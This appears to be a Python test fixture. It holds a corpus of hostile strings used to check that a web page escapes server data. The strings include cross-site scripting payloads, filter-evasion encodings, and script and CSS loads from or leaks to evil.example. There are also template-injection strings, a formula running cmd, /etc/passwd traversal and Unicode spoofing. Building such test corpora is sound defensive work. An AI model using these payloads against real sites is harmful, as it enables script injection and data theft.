"""What a hostile server says: strings that become markup, code, addresses or formulas where a page is careless.

Every one that could run calls `pwned(N)`, which the test defines nowhere: a run shows as an error of the page.
"""

RUN = "pwned"

MARKUP = [
    "<script>{run}</script>", "<SCRIPT>{run}</SCRIPT>", "<script src=//evil.example/x.js></script>", "</script><script>{run}</script>",
    "<script\n>{run}</script\n>", "<script/x>{run}</script>", "<scr<script>ipt>{run}</scr</script>ipt>", "\"><script>{run}</script>",
    "'><script>{run}</script>", "--><script>{run}</script>", "]]><script>{run}</script>", "</title><script>{run}</script>",
    "</textarea><script>{run}</script>", "</style><script>{run}</script>", "</pre></code><script>{run}</script>", "</noscript><script>{run}</script>",
    "<img src=x onerror={run}>", "<img src=x onerror='{run}'>", "<img/src/onerror={run}>", "<IMG SRC=x OnErRoR={run}>", "<img src=`x` onerror={run}>",
    "<img src onerror={run} x=", "\"><img src=x onerror={run}>", "' onerror='{run}", "\" onmouseover=\"{run}", "\" autofocus onfocus=\"{run}",
    "' autofocus onfocus='{run}' x='", "\" style=\"animation-name:x\" onanimationstart=\"{run}", "<svg onload={run}>", "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><set onbegin={run} attributename=x>",
    "<svg><a xlink:href=javascript:{run}><text>x</text></a></svg>", "<svg><foreignObject><script>{run}</script></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{run}'/>#x\"></svg>", "<math><mtext><script>{run}</script></mtext></math>",
    "<math href=javascript:{run}>x</math>", "<body onload={run}>", "<body onpageshow={run}>", "<html onmouseover={run}>", "<frameset onload={run}>",
    "<iframe src=javascript:{run}></iframe>", "<iframe srcdoc=\"<script>{run}</script>\"></iframe>", "<iframe onload={run}></iframe>",
    "<object data=javascript:{run}></object>", "<object data='data:text/html,<script>{run}</script>'></object>", "<embed src=javascript:{run}>",
    "<embed src='data:image/svg+xml,<svg onload={run}>'>", "<video><source onerror={run}></video>", "<video src=x onerror={run}>", "<audio src=x onerror={run}>",
    "<video poster=javascript:{run}>", "<details open ontoggle={run}>x</details>", "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>", "<keygen autofocus onfocus={run}>", "<button form=x formaction=javascript:{run}>x</button><form id=x>",
    "<form action=javascript:{run}><input type=submit autofocus></form>", "<isindex action=javascript:{run} type=image>", "<marquee onstart={run}>x</marquee>",
    "<meter onmouseover={run}>0</meter>", "<div style=\"width:expression({run})\">x</div>", "<div style=background:url(javascript:{run})>x</div>",
    "<style>@import 'javascript:{run}';</style>", "<style>*{{background:url(//evil.example/leak)}}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=script href=//evil.example/x.js onload={run}>", "<link rel=import href='data:text/html,<script>{run}</script>'>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">", "<a href=javascript:{run}>x</a>", "<a href=\"java&#10;script:{run}\">x</a>",
    "<a href=\"&#106;avascript:{run}\">x</a>", "<a href=data:text/html,<script>{run}</script>>x</a>", "<a href=vbscript:{run}>x</a>",
    "<a target=_blank href=//evil.example/ onclick={run}>x</a>", "<template><script>{run}</script></template>", "<slot onslotchange={run}>", "<dialog open onclose={run}>x</dialog>",
    "<x contenteditable onblur={run}>x</x>", "<x onclick={run} tabindex=1 id=x></x><label for=x>x", "<x is=y onload={run}>", "<noembed><img src=x onerror={run}></noembed>",
    "<xmp><img src=x onerror={run}></xmp>", "<plaintext><img src=x onerror={run}>", "<![CDATA[<script>{run}</script>]]>", "<!--[if IE]><script>{run}</script><![endif]-->",
    "<?xml version='1.0'?><script>{run}</script>", "<%00script>{run}</script>", "<script>{run}//", "<image src=x onerror={run}>", "<portal src=javascript:{run} onload={run}>",
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;", "%3Cscript%3E{run}%3C/script%3E", "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e", "javascript:{run}", "JaVaScRiPt:{run}", "\tjava\nscript:{run}", "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "{{{{constructor.constructor('{run}')()}}}}", "${{{run}}}", "#{{{run}}}", "<%= {run} %>", "{{%import os%}}{{{{{run}}}}}", "');{run};('", "\");{run};(\"", "`;{run};`", "\\');{run};//",
    "=cmd|'/c calc'!A1", "__proto__", "constructor", "toString", "hasOwnProperty", "../../../../etc/passwd", "..%2f..%2fapi%2fapprove", "#/approvals?x={run}", "?failed=1&server=x#{run}",
]

# Signs that turn, hide or stack what is around them.
SIGNS = [
    "safe\u202egpj.exe", "\u2066\u2067\u2068x\u2069", "zero\u200bwidth\u200c\u200d\ufeff", "soft\u00adhyphen", "\u0000nul\u0001\u0007\u001b[2Jescape\u001b]0;title\u0007",
    "tags\U000e0041\U000e0042\U000e007f", "stack" + "\u0335\u0336\u0337\u0338" * 40, "\u2028line\u2029paragraph", "variation\ufe0f\U000e0100", "\u115f\u1160\u3164filler", "long" + "g" * 3000, "\U0001f469\u200d\U0001f4bb",
]

CORPUS = [one.replace("{run}", f"{RUN}({at})").replace("{{", "{").replace("}}", "}") for at, one in enumerate(MARKUP)] + SIGNS
